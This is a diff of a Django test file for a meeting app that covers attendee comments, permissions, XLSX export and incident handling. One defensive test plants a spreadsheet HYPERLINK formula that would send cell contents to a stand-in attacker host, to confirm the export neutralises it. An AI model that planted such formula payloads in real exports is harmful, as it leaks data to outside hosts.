@@ -10,7 +10,9 @@ from django.core.exceptions import PermissionDenied, ValidationError
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from live import actions, contributions
+from live import contributions
+from live.actions import contributions as contribution_actions
+from live.actions import room as room_actions
 from live.models import Comment, Incident, IncidentStatus
 from meetings.tests.conftest import approved
 
@@ -19,15 +21,15 @@ pytestmark = pytest.mark.django_db
 
 def test_attendees_comment_before_and_during_and_a_double_tap_stores_one(meeting, leader, attendee) -> None:
     item = meeting.agenda_items.get(order=1)
-    first = contributions.do_add_comment(attendee, meeting, text="Đề nghị bổ sung số liệu", agenda_item=item)
-    again = contributions.do_add_comment(attendee, meeting, text="Đề nghị bổ sung số liệu", agenda_item=item)
+    first = contribution_actions.do_add_comment(attendee, meeting, text="Đề nghị bổ sung số liệu", agenda_item=item)
+    again = contribution_actions.do_add_comment(attendee, meeting, text="Đề nghị bổ sung số liệu", agenda_item=item)
     assert first.pk == again.pk and Comment.objects.count() == 1
-    actions.do_start_meeting(leader, meeting)
-    contributions.do_add_comment(attendee, meeting, text="Ý kiến chung")
-    actions.do_end_meeting(leader, meeting)
+    room_actions.do_start_meeting(leader, meeting)
+    contribution_actions.do_add_comment(attendee, meeting, text="Ý kiến chung")
+    room_actions.do_end_meeting(leader, meeting)
     meeting.refresh_from_db()
     with pytest.raises((ValidationError, PermissionDenied)):
-        contributions.do_add_comment(attendee, meeting, text="Muộn rồi")
+        contribution_actions.do_add_comment(attendee, meeting, text="Muộn rồi")
     assert Comment.objects.count() == 2
 
 
@@ -35,18 +37,18 @@ def test_outsiders_cannot_comment_and_bad_comments_change_nothing(
     meeting, organiser, leader, attendee, outsider
 ) -> None:
     with pytest.raises(PermissionDenied):
-        contributions.do_add_comment(outsider, meeting, text="Xin chào")
+        contribution_actions.do_add_comment(outsider, meeting, text="Xin chào")
     other = approved(organiser, leader, [attendee])
     for kwargs in ({"text": ""}, {"text": "x" * 4001}, {"text": "ok", "agenda_item": other.agenda_items.first()}):
         with pytest.raises(ValidationError):
-            contributions.do_add_comment(attendee, meeting, **kwargs)
+            contribution_actions.do_add_comment(attendee, meeting, **kwargs)
     assert not Comment.objects.exists()
 
 
 def test_compiled_comments_export_cell_by_cell(client, meeting, organiser, attendee, colleague) -> None:
     item = meeting.agenda_items.get(order=2)
-    contributions.do_add_comment(attendee, meeting, text="Cần làm rõ tiến độ", agenda_item=item)
-    contributions.do_add_comment(colleague, meeting, text="Thống nhất")
+    contribution_actions.do_add_comment(attendee, meeting, text="Cần làm rõ tiến độ", agenda_item=item)
+    contribution_actions.do_add_comment(colleague, meeting, text="Thống nhất")
     client.force_login(attendee)
     assert client.get(reverse("live:comments_xlsx", args=[meeting.pk])).status_code == 403
     client.force_login(organiser)
@@ -61,7 +63,7 @@ def test_compiled_comments_export_cell_by_cell(client, meeting, organiser, atten
 
 def test_a_comment_written_as_a_formula_is_exported_as_text(client, meeting, organiser, attendee) -> None:
     planted = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
-    contributions.do_add_comment(attendee, meeting, text=planted)
+    contribution_actions.do_add_comment(attendee, meeting, text=planted)
     client.force_login(organiser)
     sheet = load_workbook(io.BytesIO(client.get(reverse("live:comments_xlsx", args=[meeting.pk])).content)).worksheets[
         0
@@ -71,22 +73,24 @@ def test_a_comment_written_as_a_formula_is_exported_as_text(client, meeting, org
 
 
 def test_incident_lifecycle_needs_a_resolution_and_a_handler(meeting, organiser, attendee, outsider) -> None:
-    incident = contributions.do_report_incident(attendee, meeting, kind="audio", description="Micro số 3 không nghe")
+    incident = contribution_actions.do_report_incident(
+        attendee, meeting, kind="audio", description="Micro số 3 không nghe"
+    )
     with pytest.raises(PermissionDenied):
-        contributions.do_report_incident(outsider, meeting, kind="audio", description="x")
+        contribution_actions.do_report_incident(outsider, meeting, kind="audio", description="x")
     with pytest.raises(ValidationError):
-        contributions.do_report_incident(attendee, meeting, kind="fire", description="x")
+        contribution_actions.do_report_incident(attendee, meeting, kind="fire", description="x")
     with pytest.raises(PermissionDenied):
-        contributions.do_update_incident(attendee, incident, status=IncidentStatus.RESOLVED, resolution="Tự sửa")
+        contribution_actions.do_update_incident(attendee, incident, status=IncidentStatus.RESOLVED, resolution="Tự sửa")
     with pytest.raises(ValidationError):
-        contributions.do_update_incident(organiser, incident, status=IncidentStatus.RESOLVED)
-    contributions.do_update_incident(organiser, incident, status=IncidentStatus.HANDLING)
-    done = contributions.do_update_incident(
+        contribution_actions.do_update_incident(organiser, incident, status=IncidentStatus.RESOLVED)
+    contribution_actions.do_update_incident(organiser, incident, status=IncidentStatus.HANDLING)
+    done = contribution_actions.do_update_incident(
         organiser, incident, status=IncidentStatus.RESOLVED, resolution="Thay micro"
     )
     assert done.resolved_at is not None
     with pytest.raises(ValidationError):
-        contributions.do_update_incident(organiser, incident, status=IncidentStatus.OPEN)
+        contribution_actions.do_update_incident(organiser, incident, status=IncidentStatus.OPEN)
     note = contributions.incident_notes(meeting)
     assert "Micro số 3 không nghe" in note and "Thay micro" in note
     assert Incident.objects.count() == 1
